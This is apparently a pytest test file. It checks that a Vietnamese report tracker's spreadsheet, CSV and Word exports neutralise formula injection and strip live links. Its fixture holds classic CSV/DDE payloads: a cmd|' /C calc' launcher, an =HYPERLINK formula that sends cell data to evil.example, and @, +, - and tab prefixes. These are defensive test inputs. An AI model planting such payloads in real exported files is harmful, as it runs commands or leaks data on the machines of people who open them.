"""Text a unit typed never becomes a formula or a live link in an exported file.

A report from "Sở Ngoại vụ" carries the classic CSV/formula-injection payloads in its
result text, notes and file name; every export is opened with a real reader.
"""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile
from datetime import date

import docx
import openpyxl
import pyarrow as pa
import pytest

from domain.scope import Scope
from store.reports import NewReport, plan_reference, write_batch
from tracker.exports import csvfiles, draft, report, workbook

AS_OF = date(2019, 7, 26)
PLAN = "84-KH/BTGTU"
UNIT = "Sở Ngoại vụ"
FILE_NAME = "=cmd|' /C calc'!A0.xlsx"
PAYLOADS = {
    # (task, period): (result text, note)
    ("NV01", ""): (
        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
        "+1+cmd|' /C calc'!A0",
    ),
    ("NV02", "2019-H2"): ("-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("NV03", "2019-H2"): ("\t=1+1", "\r=2+2"),
    ("NV04", "2019-H2"): ("Đã làm\x07 xong", "http://evil.example/"),
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def export(demo_store):
    """The hostile report written through the store's own write path (no upload could carry
    the control characters), then collected for export."""
    ref = plan_reference(demo_store, PLAN)
    unit_id = next(uid for uid, name, _short, _aliases in ref.units if name == UNIT)
    task_ids = {code: tid for tid, code, *_rest in ref.tasks}
    rows = pa.Table.from_pylist(
        [
            dict(
                sheet="Báo cáo",
                row_no=n,
                task_id=task_ids[task],
                unit_id=unit_id,
                period=period,
                progress="in_progress",
                completed_on=None,
                result_text=result,
                note=note,
                raw_status="Đang thực hiện",
            )
            for n, ((task, period), (result, note)) in enumerate(PAYLOADS.items(), 1)
        ],
        schema=pa.schema(
            [
                ("sheet", pa.string()),
                ("row_no", pa.int32()),
                ("task_id", pa.int64()),
                ("unit_id", pa.int64()),
                ("period", pa.string()),
                ("progress", pa.string()),
                ("completed_on", pa.date32()),
                ("result_text", pa.string()),
                ("note", pa.string()),
                ("raw_status", pa.string()),
            ]
        ),
    )
    data = b"hostile"
    written = write_batch(
        demo_store,
        ref.plan_id,
        {
            0: NewReport(
                FILE_NAME,
                hashlib.sha256(data).hexdigest(),
                data,
                unit_id,
                date(2019, 7, 25),
                0,
                rows,
            )
        },
        [0],
    )
    assert written[0].failure is None, written[0].failure
    return report.collect(demo_store, Scope(AS_OF, PLAN))


def test_the_payloads_reach_the_export_tables(export):
    mine = export.detail[export.detail["file_name"] == FILE_NAME]
    assert len(mine) == len(PAYLOADS)
    assert set(mine["result_text"]) == {result for result, _note in PAYLOADS.values()}


def test_xlsx_keeps_the_text_as_text_and_no_cell_is_a_formula(export, tmp_path):
    path = tmp_path / "bao-cao.xlsx"
    path.write_bytes(workbook.summary_workbook(export))
    wb = openpyxl.load_workbook(path)
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    ws = wb["Chi tiết"]
    header = [c.value for c in ws[workbook.HEADER_ROW]]
    col = {name: header.index(name) for name in ("Kết quả", "Ghi chú", "Tệp báo cáo")}
    found = {}
    for row in ws.iter_rows(min_row=workbook.HEADER_ROW + 1):
        if row[col["Tệp báo cáo"]].value == FILE_NAME:
            found[row[col["Kết quả"]].value] = row
    expected = {result.replace("\x07", "") for result, _note in PAYLOADS.values()}
    assert set(found) == expected
    for row in found.values():
        for cell in (row[col["Kết quả"]], row[col["Ghi chú"]], row[col["Tệp báo cáo"]]):
            assert cell.data_type == "s"
            text = cell.value.replace("\n", "\r")  # XML may normalise a bare CR
            assert cell.quotePrefix == text.startswith(DANGEROUS), cell.value
    assert ws.cell(1, 1).hyperlink is None
    assert all(c.hyperlink is None for r in ws.iter_rows() for c in r)


def test_xlsx_package_holds_no_formula_link_or_external_reference(export, tmp_path):
    path = tmp_path / "bao-cao.xlsx"
    path.write_bytes(workbook.summary_workbook(export))
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        assert not any("externalLink" in n for n in names)
        for name in names:
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml
                assert "<hyperlink" not in xml  # the payload text itself may appear


def test_csv_neutralises_every_field_that_could_start_a_formula(export, tmp_path):
    path = tmp_path / "chi-tiet.csv"
    path.write_bytes(csvfiles.table_csv(export.detail))
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        for value in row.values():
            assert not value.startswith(DANGEROUS), value
    mine = [r for r in rows if r["Tệp báo cáo"] == "'" + FILE_NAME]
    assert len(mine) == len(PAYLOADS)
    results = {r["Kết quả"] for r in mine}
    assert "'" + PAYLOADS[("NV01", "")][0] in results
    assert "'-2+3" in results and "'\t=1+1" in results
    assert "Đã làm\x07 xong" in results  # harmless text is left exactly as typed
    notes = {r["Ghi chú"] for r in mine}
    assert "'\r=2+2" in notes and "http://evil.example/" in notes


def test_csv_of_every_table_is_safe(export):
    for name, content in csvfiles.csv_files(export).items():
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
            assert not any(v.startswith(DANGEROUS) for v in row), name


def test_docx_carries_the_text_literally_with_no_field_or_link(export, tmp_path):
    path = tmp_path / "bao-cao.docx"
    path.write_bytes(draft.report_draft(export))
    document = docx.Document(str(path))
    assert document.paragraphs  # opens
    with zipfile.ZipFile(path) as archive:
        body = archive.read("word/document.xml").decode("utf-8")
        rels = archive.read("word/_rels/document.xml.rels").decode("utf-8")
    assert "instrText" not in body and "fldSimple" not in body and "hyperlink" not in body
    assert 'TargetMode="External"' not in rels


def test_control_characters_never_break_the_files(export, tmp_path):
    broken = export.detail.copy()
    broken.loc[0, "result_text"] = "a\x00b\x1fc"
    from dataclasses import replace

    odd = replace(
        export,
        detail=broken,
        by_unit=export.by_unit.assign(
            **{"unit_name": export.by_unit["unit_name"].str.cat(["\x0b"] * len(export.by_unit))}
        ),
    )
    wb = openpyxl.load_workbook(io.BytesIO(workbook.summary_workbook(odd)))
    assert wb["Chi tiết"].cell(workbook.HEADER_ROW + 1, 11).value == "abc"  # after STT
    document = docx.Document(io.BytesIO(draft.report_draft(odd)))
    units = next(t for t in document.tables if t.rows[0].cells[1].text == "Đơn vị")
    assert "\x0b" not in units.rows[1].cells[1].text
